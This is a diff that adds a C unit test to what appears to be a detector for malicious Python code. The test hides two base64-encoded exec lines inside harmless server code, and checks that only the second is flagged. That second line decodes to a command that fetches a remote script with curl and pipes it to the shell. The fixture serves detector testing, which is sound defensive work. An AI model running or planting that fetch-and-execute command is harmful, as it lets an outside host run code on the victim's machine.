@@ -253,6 +253,34 @@ static void test_packed_harmless(void)
 	mpy_verdict_free(v);
 }
 
+/* Nor among much other code, where its lines are judged by themselves. */
+static void test_packed_among_others(void)
+{
+	static const char *const packed[] = {
+		/* print('done') */
+		"exec(b.b64decode('cHJpbnQoJ2RvbmUnKQ=='))\n",
+		/* os.system('curl http://192.0.2.4/x | sh') */
+		"exec(b.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8v"
+		"MTkyLjAuMi40L3ggfCBzaCcp'))\n"
+	};
+	size_t calm_size;
+	char *calm = slurp(GOLDEN "web-server.py", &calm_size);
+	char *text = malloc(3 * calm_size + 1000);
+
+	for (unsigned int i = 0; i < 2; i++) {
+		int n = sprintf(text, "%s%simport base64 as b\n%s%s", calm,
+				calm, packed[i], calm);
+		struct mpy_verdict *v = judge(bundle, text, (size_t)n);
+
+		if ((v->label == MPY_MALICIOUS) != i)
+			printf("# %u: p %.4f\n", i, v->probability);
+		CHECK((v->label == MPY_MALICIOUS) == i);
+		mpy_verdict_free(v);
+	}
+	free(text);
+	free(calm);
+}
+
 /* A loader's list of numbers may be long: its lines are no payload. */
 static void test_numbers_harmless(void)
 {
@@ -471,6 +499,7 @@ int main(void)
 	RUN(test_real_code);
 	RUN(test_short_in_long);
 	RUN(test_packed_harmless);
+	RUN(test_packed_among_others);
 	RUN(test_numbers_harmless);
 	RUN(test_bad_input);
 	RUN(test_bounds);
